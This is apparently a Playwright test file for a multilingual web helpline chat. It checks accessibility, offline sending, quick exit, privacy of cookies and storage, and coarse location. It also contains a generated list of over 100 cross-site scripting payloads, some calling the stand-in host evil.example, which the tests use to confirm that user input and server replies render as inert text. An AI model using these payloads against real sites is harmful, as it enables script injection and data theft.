"""The web chat in a real browser: whole conversations, bad lines, no mouse, a small screen (THREATS T21, T23, T46)."""

import asyncio
import os
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, Response, Route

from bot.text import LANGUAGES
from tests.browser.proxy import BadLine
from tests.browser.tab import Tab, label, tab
from tests.web.serving import LEAVE_URL, Site, token

pytestmark = pytest.mark.asyncio(loop_scope="session")


async def wages(page: Tab, language: str) -> None:
    """From the menu to where to complain about unpaid wages."""
    await page.taps(label("menu.top.work", language))
    await page.taps(label("menu.work.flow:wages", language))
    await page.taps(label("wages.danger.safe", language))
    await page.taps(label("wages.passport.mine", language))
    await page.types("2")
    await page.taps(label("wages.contract.spoken", language))
    await page.taps(label("wages.evidence.messages", language))
    await page.taps(label("done-button", language))
    await page.taps(label("wages.today.whom", language))


@pytest.mark.parametrize("language", LANGUAGES)
async def test_a_whole_conversation_in_each_language_on_a_small_screen(
    browser: Browser, safar: Site, language: str
) -> None:
    tag = LANGUAGES[language].tag
    async with tab(browser, safar.url, locale=tag) as page:
        await page.reaches_menu(language)
        await wages(page, language)

        assert await page.runs("document.documentElement.lang") == tag
        assert await page.runs("document.querySelector('#send').textContent") == label("web-send", language)
        assert set(await page.runs("[...document.querySelectorAll('.theirs')].map(row => row.lang)")) <= {tag, "ru"}
        assert await page.page.locator(".theirs").last.locator("a[href^='tel:']").count() >= 2
        assert await page.runs("document.documentElement.scrollWidth") <= 360
        assert await page.runs("document.querySelector('#log').scrollWidth") <= 360


@pytest.mark.parametrize("language", ["ky", "uz"])
async def test_nothing_is_cut_off_or_too_small_to_tap(
    browser: Browser, safar: Site, tmp_path: Path, language: str
) -> None:
    """The pictures are for eyes: SAFAR_PICTURES names a folder for them."""
    pictures = Path(os.environ.get("SAFAR_PICTURES", tmp_path))
    async with tab(browser, safar.url, device_scale_factor=2) as page:
        await page.reaches_menu(language)
        await page.taps(label("menu.top.work", language))
        await page.taps(label("menu.work.flow:wages", language))
        for scheme in ("light", "dark"):
            await page.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
            await page.page.screenshot(path=pictures / f"webchat-{language}-{scheme}.png")
        for width in (360, 320):
            await page.page.set_viewport_size({"width": width, "height": 640})
            boxes = await page.runs(
                "[...document.querySelectorAll('button, #leave, input')].map(b => b.getBoundingClientRect())"
                ".map(box => [box.width, box.height, box.left, box.right])"
            )
            assert len(boxes) > 5
            assert all(w >= 44 and h >= 44 and left >= 0 and right <= width for w, h, left, right in boxes), boxes


async def test_a_message_written_without_a_line_goes_when_the_line_is_back(page: Tab) -> None:
    await page.reaches_menu()
    await page.page.context.set_offline(True)
    before = await page.replies()

    await page.page.fill("#text", "меню")
    await page.page.press("#text", "Enter")
    await page.page.wait_for_function("() => document.querySelector('#state').textContent !== ''")
    said = await page.texts("#state")
    await page.page.context.set_offline(False)
    await page.answered(before)

    assert said == [label("web-offline")]
    assert await page.texts("#state") == [""]
    assert await page.replies() == before + 1


@pytest.mark.parametrize("keep_bytes", [0, 300])
async def test_answers_lost_on_the_way_come_again_and_show_once(browser: Browser, safar: Site, keep_bytes: int) -> None:
    async with BadLine(safar.host, safar.port) as line, tab(browser, line.url) as page:
        await page.reaches_menu()
        shown = await page.replies()
        line.lose, line.keep_bytes = 2, keep_bytes

        await page.taps(label("menu.top.work"))
        await page.taps(label("menu.work.flow:wages"))

        assert line.lost == 2
        assert await page.replies() == shown + 2
        assert await page.texts(".mine") == [
            LANGUAGES["ru"].own_name,
            label("about-you.citizenship.KG"),
            label("about-you.where.RU"),
            label("start.alerts.no"),
            label("menu.top.work"),
            label("menu.work.flow:wages"),
        ]
        await acknowledged(safar)


async def acknowledged(safar: Site) -> None:
    """The page says by itself what it has shown."""
    for _ in range(100):
        if not await safar.pending():
            return
        await asyncio.sleep(0.05)
    raise AssertionError("replies were shown but never acknowledged")


async def test_the_first_answer_lost_is_no_trouble(browser: Browser, safar: Site) -> None:
    async with BadLine(safar.host, safar.port) as line, tab(browser, line.url) as page:
        line.lose = 1
        await page.opens()

        assert line.lost == 1
        assert await page.replies() == 1


async def test_a_reminder_appears_by_itself(page: Tab, safar: Site) -> None:
    await page.opens()
    await acknowledged(safar)
    [cookie] = await page.page.context.cookies()

    await safar.remind(cookie["value"])
    await page.answered(1)

    assert await page.replies() == 2


async def test_a_reload_goes_on_where_the_person_stood(page: Tab) -> None:
    await page.reaches_menu()
    await page.taps(label("menu.top.work"))

    await page.opens()

    assert await page.texts(".mine") == []
    assert label("menu.work.flow:wages") in await page.texts(".choices button")


async def test_everything_by_keyboard_with_the_focus_always_visible(page: Tab) -> None:
    await page.opens()
    seen = []

    async def tab_to(name: str) -> None:
        for _ in range(25):
            await page.page.keyboard.press("Tab")
            focused = await page.runs("document.activeElement.textContent || document.activeElement.id")
            seen.append(focused)
            outline = await page.runs("getComputedStyle(document.activeElement).outlineStyle")
            assert outline != "none", focused
            if focused == name:
                return
        raise AssertionError(f"{name} is not reached: {seen}")

    before = await page.replies()
    await tab_to(LANGUAGES["ru"].own_name)
    await page.page.keyboard.press("Enter")
    await page.answered(before)
    before = await page.replies()
    await tab_to(label("about-you.citizenship.KG"))
    await page.page.keyboard.press("Space")
    await page.answered(before)
    before = await page.replies()
    await tab_to("text")
    await page.page.keyboard.type("Россия")
    await page.page.keyboard.press("Enter")
    await page.answered(before)
    before = await page.replies()
    await page.page.keyboard.type("нет")
    await page.page.keyboard.press("Enter")
    await page.answered(before)

    assert label("menu.top.work") in await page.texts(".choices button")
    assert await page.runs("document.activeElement.id") == "text"
    assert seen.index(label("web-leave")) >= 0


async def test_a_screen_reader_is_told_what_is_what(page: Tab) -> None:
    await page.reaches_menu("ky")
    log = page.page.get_by_role("log", name=label("web-messages", "ky"))

    assert await log.get_attribute("aria-live") == "polite"
    assert await page.page.get_by_role("textbox", name=label("web-placeholder", "ky")).count() == 1
    assert await page.page.get_by_role("button", name=label("web-send", "ky"), exact=True).count() == 1
    assert await page.page.get_by_role("status").count() == 1
    assert await page.page.locator(".theirs bdi").count() == await page.replies()
    assert await page.runs("[...document.querySelectorAll('button')].every(b => b.textContent.trim())")


GONE = "document.body.childNodes.length === 0 && document.title === ''"


@pytest.mark.parametrize("way", ["button", "shift"])
async def test_leaving_quickly_blanks_the_page_at_once_and_back_shows_nothing(page: Tab, way: str) -> None:
    await page.page.goto("about:blank")
    await page.opens()
    await page.taps(LANGUAGES["ru"].own_name)
    weather = asyncio.Event()

    async def slow(route: Route) -> None:
        await weather.wait()
        await route.fulfill(body="Sunny", content_type="text/html")

    await page.page.route(LEAVE_URL, slow)
    # Heard after the page's own handlers, in the same task as the click or the key.
    await page.runs(
        "['click', 'keydown'].forEach(kind => addEventListener(kind, event => "
        f"{{ if ({GONE}) console.info(performance.now() - event.timeStamp); }}))"
    )
    async with page.page.expect_console_message() as told:
        if way == "button":
            await page.page.locator("#leave").dispatch_event("click")
        else:
            for _ in range(3):
                await page.page.keyboard.press("Shift")
    took = float((await told.value).text)
    weather.set()
    await page.page.wait_for_url(LEAVE_URL)

    assert 0 <= took <= 100
    assert await page.page.context.cookies() == []
    await page.page.go_back()
    assert page.page.url == "about:blank"


async def test_two_shifts_or_a_capital_letter_leave_nobody(page: Tab) -> None:
    await page.opens()
    await page.page.focus("#text")
    for _ in range(4):
        await page.page.keyboard.press("Shift+A")

    assert await page.page.locator("#text").input_value() == "AAAA"
    assert urlsplit(page.page.url).path == "/"


async def test_coming_back_from_another_page_shows_nothing_of_the_talk(page: Tab) -> None:
    await page.opens()
    await page.taps(LANGUAGES["ru"].own_name)
    await page.page.goto(LEAVE_URL)

    await page.page.go_back()
    await page.choices.first.wait_for()

    assert await page.texts(".mine") == []


async def test_after_twenty_turns_the_browser_keeps_one_session_cookie_and_one_line_of_history(page: Tab) -> None:
    await page.opens()
    before = await page.runs("history.length")
    await page.reaches_menu()
    await wages(page, "ru")
    for _ in range(6):
        await page.taps(label("back-button"))

    [cookie] = await page.page.context.cookies()
    kept = await page.runs(
        "(async () => [localStorage.length, sessionStorage.length, document.cookie, "
        "(await indexedDB.databases()).length, (await caches.keys()).length])()"
    )

    assert len(await page.texts(".mine")) == 19  # and the opening
    assert await page.runs("history.length") == before
    assert await page.runs("location.href") == f"{page.url}/"
    assert (cookie["expires"], cookie["httpOnly"], cookie["sameSite"]) == (-1, True, "Strict")
    assert kept == [0, 0, "", 0, 0]
    assert {urlsplit(url).netloc for url in page.requests} == {urlsplit(page.url).netloc}
    assert {urlsplit(url).query for url in page.requests} == {""}


async def test_the_word_that_hides_works_without_a_line(page: Tab) -> None:
    await page.reaches_menu()
    await page.page.context.set_offline(True)
    await page.page.fill("#text", "не сказано")
    await page.page.press("#text", "Enter")

    await page.page.fill("#text", "000")
    await page.page.press("#text", "Enter")
    hidden = await page.texts(".row")
    await page.page.context.set_offline(False)
    await page.choices.first.wait_for()

    assert hidden == []
    assert await page.texts(".mine") == []
    assert label("hidden") in (await page.texts(".theirs"))[0]


async def test_after_delete_only_the_last_word_is_left(page: Tab) -> None:
    await page.reaches_menu()
    await page.types("удалить")

    await page.choices.first.click()
    await page.page.wait_for_function("() => !document.querySelector('.mine')")

    assert await page.replies() == 1
    assert await page.texts(".theirs") != [""]


async def test_a_code_in_the_address_opens_its_topic_and_leaves_the_address(page: Tab) -> None:
    await page.opens(f"/#{token('flow', 'wages')}")
    await page.taps(LANGUAGES["ru"].own_name)

    assert label("wages.danger.beaten") in await page.texts(".choices button")
    assert await page.runs("location.href") == f"{page.url}/"


async def test_the_keyboard_of_the_phone_fits_the_question(page: Tab) -> None:
    await page.reaches_menu()
    await page.taps(label("menu.top.work"))
    words = await page.page.locator("#text").get_attribute("inputmode")
    await page.taps(label("menu.work.flow:wages"))
    await page.taps(label("wages.danger.safe"))
    await page.taps(label("wages.passport.mine"))

    assert words in (None, "text")
    assert await page.page.locator("#text").get_attribute("inputmode") == "numeric"


PAYLOADS = [
    frame.format(code)
    for code in ("alert(1)", "document.title='x'", "fetch('//evil.example')", "import('//evil.example/x.js')")
    for frame in (
        "<script>{}</script>",
        "<img src=x onerror={}>",
        "<svg onload={}>",
        '<iframe src="javascript:{}"></iframe>',
        '<a href="javascript:{}">x</a>',
        '"><script>{}</script>',
        "'-{}-'",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "<body onload={}>",
        "<input autofocus onfocus={}>",
        "<details open ontoggle={}>",
        '<math href="javascript:{}">x</math>',
        "<style>@import '//evil.example/{}'</style>",
        "<link rel=stylesheet href=//evil.example/{}>",
        '<meta http-equiv=refresh content="0;url=javascript:{}">',
        "<base href=//evil.example/{}>",
        '<form action="javascript:{}"><button>x',
        '<object data="javascript:{}">',
        '<embed src="javascript:{}">',
        '<div hx-get=//evil.example hx-trigger=load hx-on="{}">',
        "<template><script>{}</script></template>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "{{{{{}}}}}",
        "${{{}}}",
        "<!--><script>{}</script>",
        '<noscript><p title="</noscript><img src=x onerror={}>">',
    )
]


ALIVE = "document.querySelectorAll('main script, main img, main iframe, main svg, main [onerror]').length"


async def test_what_a_person_types_is_shown_as_typed(page: Tab) -> None:
    await page.opens()
    await page.page.context.set_offline(True)  # the page draws them before the server hears of them
    await page.page.evaluate(
        "payloads => payloads.forEach(payload => { document.querySelector('#text').value = payload;"
        " document.querySelector('#form').requestSubmit(); })",
        PAYLOADS,
    )

    assert len(PAYLOADS) > 100
    assert await page.texts(".mine") == PAYLOADS
    assert await page.runs(ALIVE) == 0


async def test_what_stands_in_a_reply_is_text_and_its_links_lead_to_https_only(page: Tab) -> None:
    rows = [
        {
            "key": str(number),
            "lang": "ru",
            "parts": [payload, payload],
            "choices": [["abc", payload]],
            "links": [[payload, f"javascript:{payload}"], ["good", "https://example.org/law"]],
            "pin": [payload, payload, "geo:1,2"],
        }
        for number, payload in enumerate(PAYLOADS)
    ]

    async def hostile(route: Route) -> None:
        await route.fulfill(json={"rows": rows, "pause": 60})

    await page.page.route("**/chat", hostile)
    await page.opens()

    assert (await page.texts(".theirs strong")) == PAYLOADS
    assert await page.texts(".choices button") == PAYLOADS
    assert set(await page.runs("[...document.querySelectorAll('.links a')].map(a => a.getAttribute('href'))")) == {
        None,
        "https://example.org/law",
        "geo:1,2",
    }
    assert await page.runs(ALIVE) == 0


CALLED = {
    "Звоните 112.": ["112"],
    "112, 103": ["112", "103"],
    "Линия: +996 312 62-53-88 (бесплатно)": ["+996312625388"],
    "8 (800) 707-88-41\n2. Дальше": ["88007078841"],
    "8-800-707-88-41, +74992300076": ["88007078841", "+74992300076"],
    "05.03.2026 и 112 000 рублей, 12 103 сома, 103%, 8 000 000 000": [],
    "ст. 5.27, № 115-ФЗ, 2026-11-21, 10:30": [],
}


async def test_phones_can_be_called_with_a_tap_and_other_numbers_cannot(page: Tab) -> None:
    async def answer(route: Route) -> None:
        rows = [{"key": text, "lang": "ru", "parts": [text], "choices": [["abc", "x"]]} for text in CALLED]
        await route.fulfill(json={"rows": rows, "pause": 60})

    await page.page.route("**/chat", answer)
    await page.opens()
    links = "[...document.querySelectorAll('.theirs')].map(row => [...row.querySelectorAll('.tel')].map(a => a.href))"

    assert await page.texts(".theirs") == list(CALLED)
    assert await page.runs(links) == [[f"tel:{number}" for number in numbers] for numbers in CALLED.values()]


async def test_the_place_is_sent_no_sharper_than_a_hundred_metres(browser: Browser, safar: Site) -> None:
    place = {"latitude": 55.7512345, "longitude": 37.6184321}
    async with tab(browser, safar.url, geolocation=place, permissions=["geolocation"]) as page:
        posted: list[str] = []

        async def answer(route: Route) -> None:
            body = route.request.post_data or ""
            posted.append(body)
            rows = [{"key": str(len(posted)), "lang": "ru", "parts": ["?"], "location": True}]
            await route.fulfill(json={"rows": rows if '"event"' in body else [], "pause": 60})

        await page.page.route("**/chat", answer)
        await page.opens()
        await page.taps(label("location-button"))

    [sent] = [body for body in posted if '"location"' in body]
    assert re.search(r'"latitude":55\.751,"longitude":37\.618[,}]', sent)


async def test_the_first_page_is_light_and_comes_quickly_over_2g(page: Tab) -> None:
    sizes: dict[str, int] = {}

    async def weigh(response: Response) -> None:
        if not response.url.endswith("/chat"):
            sizes[response.url] = len(await response.body())

    page.page.on("response", weigh)
    line = await page.page.context.new_cdp_session(page.page)
    await line.send("Network.enable")
    slow = {"offline": False, "latency": 600, "downloadThroughput": 6_000, "uploadThroughput": 3_000}
    await line.send("Network.emulateNetworkConditions", slow)

    await page.opens()
    took = await page.runs("performance.now()")

    assert len(sizes) >= 3
    assert sum(sizes.values()) < 40_000
    assert took < 10_000


async def test_without_a_script_the_page_says_so(browser: Browser, safar: Site) -> None:
    async with tab(browser, safar.url, java_script_enabled=False) as page:
        await page.page.goto(page.url)

        assert label("web-no-script") in await page.page.locator("noscript").inner_text()
        assert await page.page.locator("#leave").get_attribute("href") == LEAVE_URL
